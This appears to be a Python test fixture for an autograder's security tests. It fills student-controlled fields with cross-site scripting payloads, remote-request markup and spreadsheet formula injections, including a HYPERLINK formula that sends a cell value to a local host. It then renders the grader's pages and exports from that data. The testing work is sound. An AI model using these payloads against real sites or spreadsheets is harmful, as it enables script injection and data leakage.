"""A hostile class: every string a submission controls carries markup, scripts, remote requests and
spreadsheet formulas, and every page and export the grader writes is built from it (issue 28).

    built = build(tmp_path, "127.0.0.1:8765")   # {"pages": [...], "csv": [...], "markdown": [...]}

Child-controlled strings, each a payload below: exception messages and type names (Finding fields, the
printed output), file names (candidate files of an ambiguous entry), student names, emails and ids
(Gradescope's `:name:`, `:email:`, `:sid:`), the import error of a record, string literals that end up in
similarity snippets, and a staff override's reason. Grading is faked (batch.run._outcomes): the reports
are rendered by the real write_reports from a hostile GradeResult, and everything else by the real
grade-all (discovery, gradebook, canvas, class report, similarity, overrides), plus the nbgrader feedback
page (GraderReport and nbconvert's HTML exporter, as `nbgrader generate_feedback` makes it).
"""

from __future__ import annotations

import importlib.util
import json
import tempfile
from pathlib import Path

import yaml

from autograder.batch import run
from autograder.judge.outcome import Finding, GradeResult
from autograder.judge.outcome import TestResult as Result
from autograder.judge.report import write_reports
from autograder.lab.paths import REFERENCE

RAN = "data-pwned"  # a script that runs marks the page's root element with this attribute


def markup(host: str) -> list[str]:
    """HTML and markdown payloads: each runs a script (marking the page) or makes a request to `host`."""
    mark = f"document.documentElement.setAttribute('{RAN}','1')"
    return [f"<script>{mark}</script>", f"<img src=x onerror=\"{mark}\">", f"<svg onload=\"{mark}\"></svg>",
            f"\"><iframe srcdoc=\"<script>parent.{mark}</script>\"></iframe>", f"<img src=\"http://{host}/img\">",
            f"<link rel=stylesheet href=\"http://{host}/css\">", f"<meta http-equiv=refresh content=\"0;url=http://{host}/r\">",
            f"<style>@import url(http://{host}/import);</style>", f"![x](http://{host}/md.png)",
            f"<http://{host}/autolink>", "```\n</pre><script>" + mark + "</script>\n```", "| a | b |\n# heading"]


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://127.0.0.1:9/?\"&C3;\"x\")"]


def payload(host: str) -> str:
    """Every payload in one string (what a field of the hostile class holds)."""
    return " ".join(markup(host) + FORMULAS)


def file_payloads() -> list[str]:
    """Names a file can have (no "/"): markup that runs a script, and formulas."""
    mark = f"document.documentElement.setAttribute('{RAN}','1')"
    return [f"<img src=x onerror=\"{mark}\">", f"<svg onload=\"{mark}\">", "=1+1", "@SUM(1;1)", "-1+1"]


def grade_result(host: str) -> GradeResult:
    """A grade whose every child-controlled field holds every payload."""
    bad = payload(host)
    finding = Finding(message=bad, inputs=bad, expected=bad, got=f"<class '{bad}'>", compared=bad,
                      submission_text=f"RuntimeError: {bad}", hint=bad, details=bad)
    tests = [Result("gae.known_values", "GAE on a hand-computed example", ["gae"], 4, 0, "visible", "visible", finding),
             Result("gae.matches_reference", "GAE equals the reference", ["gae"], 5, 5, "visible", "visible",
                    Finding(details=bad)),
             Result("e2e.kl_penalty", "PPO with a KL penalty", ["e2e", "gae"], 5, 0, "visible", "visible",
                    Finding(message=bad, details=bad))]
    return GradeResult(f"{file_payloads()[0]}.py", tests, partial=False, execution_time=1.0, output=bad,
                       isolation=bad, status_detail=bad)


def reports(host: str) -> dict[str, str]:
    """report.html, report.md, staff.md and results.json of the hostile grade, as grade writes them."""
    with tempfile.TemporaryDirectory() as folder:
        write_reports(grade_result(host), Path(folder))
        return {p.name: p.read_text() for p in Path(folder).iterdir()}


def export(root: Path, host: str) -> Path:
    """A Gradescope export: submitters whose :name:, :email: and :sid: hold payloads; their files hold
    payloads in string literals (similarity snippets); one entry has two candidate files named with payloads."""
    bad = payload(host)
    code = REFERENCE.read_text()
    meta = {}
    for i in range(4):
        sub = root / f"submission_{i}"
        sub.mkdir(parents=True)
        meta[f"submission_{i}"] = {":submitters": [{":name": f"{bad} {i}", ":email": f"=HYPERLINK(\"x\")@{i}.edu",
                                                    ":sid": f"-1+{i}"}]}
        literal = "LEAK = " + json.dumps(bad) + "\n"
        if i < 2:
            (sub / "rlhf.py").write_text(literal + code)   # a copied pair: the payload is in the shared code
        elif i == 2:
            for name in file_payloads()[:2]:
                (sub / f"{name}.py").write_text(code)       # two candidates: ambiguous, the names in its detail
        else:
            (sub / "rlhf.py").write_text(literal + "# " + "padding " * 200_000 + "\n" + code)  # 1.6 MB of comments
    (root / "submission_metadata.yml").write_text(yaml.safe_dump(meta))
    return root


def fake_outcomes(host: str):
    """batch.run._outcomes: each submission graded as not importable (the import error a payload), with the
    hostile reports as its files."""
    files = reports(host)

    def outcomes(todo, only, version, *rest):
        for sub, key in todo:
            yield {"student": sub.student, "key": key, "status": "not_importable",
                   "reason": f"{sub.filename}, line 1: RuntimeError: {payload(host)}", "score": 0.0,
                   "max_score": 100.0, "parts": {}, "e2e": None, "seconds": 1.0, "worker_grader": version,
                   "tests": [{"id": "gae.known_values", "part": "gae", "passed": False, "score": 0.0, "max_score": 4,
                              "seconds": 1.0, "diagnosis": payload(host), "message": payload(host)}],
                   "files": {k: v for k, v in files.items() if k != "results.json"}}
    return outcomes


def feedback_page(grades: Path, student: str, folder: Path) -> Path:
    """The nbgrader feedback page of `student`: GraderReport adds their report.html to a notebook, and
    nbconvert's HTML exporter renders it (what `nbgrader generate_feedback` does)."""
    from nbconvert import HTMLExporter
    from nbformat.v4 import new_markdown_cell, new_notebook

    from autograder.bundling.recipes import ASSETS
    spec = importlib.util.spec_from_file_location("grader_feedback", ASSETS / "grader_feedback.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    nb, resources = module.GraderReport(folder=str(grades)).preprocess(
        new_notebook(cells=[new_markdown_cell("the student's notebook")]), {"nbgrader": {"student": student}})
    body, _ = HTMLExporter().from_notebook_node(nb)
    page = folder / f"feedback-{student}.html"
    page.write_text(body)
    return page


def build(tmp_path: Path, host: str, monkeypatch) -> dict[str, list[Path]]:
    """grade-all on the hostile export (with --similarity and a hostile override), then the feedback page:
    every HTML page, every CSV export and every markdown report built from it."""
    monkeypatch.setattr(run, "_outcomes", fake_outcomes(host))
    source, out = export(tmp_path / "export", host), tmp_path / "grades"
    first = run.discover(source, reserved=run.OWN_FILES + run.STAFF_FILES)
    out.mkdir()
    (out / "overrides.csv").write_text("student,target,points,reason\n"
                                       + f"{first[0].student},gae,1,{json.dumps(payload(host))}\n")
    run.grade_all(source, out, similarity=True)
    students = [p.parent for p in out.glob("*/grade.json")]
    pages = [out / "class_report.html", *sorted((out / "_similarity").glob("*.html")),
             *(s / "report.html" for s in students if (s / "report.html").exists())]
    pages.append(feedback_page(out, students[0].name, tmp_path))
    return {"pages": pages, "csv": [out / "gradebook.csv", out / "canvas.csv"],
            "markdown": [p for s in students for p in (s / "report.md", s / "staff.md") if p.exists()],
            "out": [out]}
